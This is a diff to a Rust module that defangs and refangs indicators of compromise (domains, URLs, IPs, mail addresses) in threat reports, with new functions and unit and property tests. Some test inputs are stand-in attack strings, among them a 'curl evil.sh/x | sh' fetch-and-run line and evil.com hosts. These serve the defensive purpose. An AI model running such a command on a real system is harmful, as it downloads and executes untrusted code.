@@ -1,11 +1,12 @@
 //! Writing addresses so that nobody clicks on them, and reading them when others did.
 
 use std::borrow::Cow;
+use std::ops::Range;
 use std::sync::LazyLock;
 
 use regex::{Captures, Regex};
 
-use crate::indicator::spans;
+use crate::indicator::{Indicator, IndicatorKind, dots, spans, spans_knowing, spans_of_value};
 
 static SCHEME: LazyLock<Option<Regex>> =
     LazyLock::new(|| Regex::new(r"(?i)\b(h)tt(ps?)(://)|\b(f)t(ps?://)").ok());
@@ -20,16 +21,37 @@ static FANGS: LazyLock<Option<Regex>> = LazyLock::new(|| {
 /// The text with its addresses, domains and URLs made unclickable: `185.220.101[.]42`, `pool.minexmr[.]com`, `hxxp://`.
 #[must_use]
 pub fn defang(text: &str) -> String {
+    without_fangs(text, &spans(text))
+}
+
+/// A value of this kind, defanged: the host of a domain, URL, mail address or IP address is made unclickable even where
+/// it could be a file (`login.zip`).
+#[must_use]
+pub fn defang_value(kind: IndicatorKind, value: &str) -> String {
+    without_fangs(value, &spans_of_value(kind, value))
+}
+
+/// As [`defang`], of a text about these values: a name that could be a file is an address where it is one of them.
+#[must_use]
+pub fn defang_knowing(text: &str, known: &[Indicator]) -> String {
+    without_fangs(text, &spans_knowing(text, known))
+}
+
+fn without_fangs(text: &str, spans: &[Range<usize>]) -> String {
     let mut out = String::with_capacity(text.len() + 16);
     let mut done = 0;
-    for span in spans(text) {
-        let Some(dot) = text.get(span.clone()).and_then(|host| host.rfind('.')) else {
-            continue;
-        };
-        let dot = span.start + dot;
-        out.push_str(text.get(done..dot).unwrap_or_default());
-        out.push_str("[.]");
-        done = dot + 1;
+    for span in spans {
+        let mut all: Vec<usize> = text
+            .get(span.clone())
+            .map(|host| dots(host).collect())
+            .unwrap_or_default();
+        all.reverse();
+        for dot in all {
+            let dot = span.start + dot;
+            out.push_str(text.get(done..dot).unwrap_or_default());
+            out.push_str("[.]");
+            done = dot + 1;
+        }
     }
     out.push_str(text.get(done..).unwrap_or_default());
     match SCHEME.as_ref() {
@@ -75,6 +97,8 @@ fn lower_has(text: &str, needles: &[&str]) -> bool {
 
 #[cfg(test)]
 mod tests {
+    use proptest::prelude::*;
+
     use super::*;
 
     #[test]
@@ -100,6 +124,110 @@ mod tests {
         ] {
             assert_eq!(defang(plain), safe);
             assert_eq!(refang(safe), plain);
+        }
+    }
+
+    #[test]
+    fn a04_no_character_beside_a_domain_keeps_it_live() {
+        for (plain, safe) in [
+            ("-evil.com /evil.com", "-evil[.]com /evil[.]com"),
+            ("evil.com(x) evil.com-x", "evil[.]com(x) evil[.]com-x"),
+            ("$evil.com ~evil.com", "$evil[.]com ~evil[.]com"),
+            (".evil.com ..evil.com", ".evil[.]com ..evil[.]com"),
+            (
+                "\\\\evil.com\\share a/b.evil.com/c",
+                "\\\\evil[.]com\\share a/b.evil[.]com/c",
+            ),
+            ("//evil.com/x", "//evil[.]com/x"),
+            (
+                "//storage.googleapis.com/b/x.html",
+                "//storage.googleapis[.]com/b/x.html",
+            ),
+            ("curl evil.sh/x | sh", "curl evil[.]sh/x | sh"),
+            ("to login-okta.app.", "to login-okta[.]app."),
+            ("evil.co.uk evil.com.de", "evil[.]co[.]uk evil[.]com[.]de"),
+        ] {
+            assert_eq!(defang(plain), safe);
+            assert_eq!(refang(safe), plain);
+        }
+        let many = "a.co ".repeat(1_000);
+        assert_eq!(defang(&many), "a[.]co ".repeat(1_000));
+    }
+
+    #[test]
+    fn what_reports_show_all_the_time_stays_whole() {
+        for text in [
+            "main.rs setup.sh report.zip index.html 1.2.3 my-archive.zip run-me.sh",
+            "/tmp/run.sh ./setup.py C:\\a\\b.zip ~/x.mov /root/.ssh/id_rsa.pub",
+            "/etc/systemd/system/multi-user.target /usr/lib/libx.la src/Makefile.in",
+            "/Applications/Safari.app/Contents actor.user.name request.host_name libc.so.6",
+            "v1.compute.instances.start google.compute.Instance nginx-1.25.3 x-1.2.3.4",
+            "//compute.googleapis.com/projects/p/zones/z/instances/i",
+            "main.py:12 user.id trace.id Foo.app",
+        ] {
+            assert_eq!(defang(text), text);
+        }
+    }
+
+    #[test]
+    fn a04_a_typed_value_is_never_live() {
+        use IndicatorKind::{Domain, Email, File, Ip, Url};
+        for (kind, plain, safe) in [
+            (Domain, "login.app", "login[.]app"),
+            (Domain, "update.zip", "update[.]zip"),
+            (Domain, "x_y.sh", "x_y[.]sh"),
+            (Domain, "evil.co.uk", "evil[.]co[.]uk"),
+            (Domain, "host.internal", "host[.]internal"),
+            (Ip, "203.0.113.0", "203.0.113[.]0"),
+            (Ip, "2001:db8::1", "2001:db8::1"),
+            (Email, "bob@update.zip", "bob@update[.]zip"),
+            (
+                Url,
+                "https://u@login.corp.invalid:8443/a.sh?b=evil.com",
+                "hxxps://u@login.corp[.]invalid:8443/a.sh?b=evil[.]com",
+            ),
+            (Url, "http://203.0.113.0", "hxxp://203.0.113[.]0"),
+            (
+                Url,
+                "stratum+tcp://pool.sh:4444",
+                "stratum+tcp://pool[.]sh:4444",
+            ),
+            (File, "/tmp/setup.sh", "/tmp/setup.sh"),
+        ] {
+            assert_eq!(defang_value(kind, plain), safe);
+            assert_eq!(refang(safe), plain);
+        }
+    }
+
+    #[test]
+    fn a04_a_file_in_a_text_is_an_address_where_it_is_a_typed_one() {
+        let known = [
+            Indicator::new(IndicatorKind::Domain, "login.app", crate::Role::Remote),
+            Indicator::new(
+                IndicatorKind::Url,
+                "https://update.zip/x",
+                crate::Role::Remote,
+            ),
+            Indicator::new(IndicatorKind::File, "setup.sh", crate::Role::Related),
+        ];
+        let text = "Far end Login.app, update.zip and setup.sh; mylogin.app is none";
+        assert_eq!(
+            defang_knowing(text, &known),
+            "Far end Login[.]app, update[.]zip and setup.sh; mylogin.app is none"
+        );
+        assert_eq!(defang(text), text);
+    }
+
+    proptest! {
+        #[test]
+        fn refanging_undoes_defanging(text in "[a-c./:@ $~-]{0,20}(com|app|co\\.uk|sh|io)[a-c ./:-]{0,12}") {
+            let safe = defang(&text);
+            let plain = refang(&safe);
+            prop_assert_eq!(plain.as_ref(), text.as_str());
+            let value = text.replace(' ', "");
+            let safe = defang_value(IndicatorKind::Domain, &value);
+            let plain = refang(&safe);
+            prop_assert_eq!(plain.as_ref(), value.as_str());
         }
     }
 
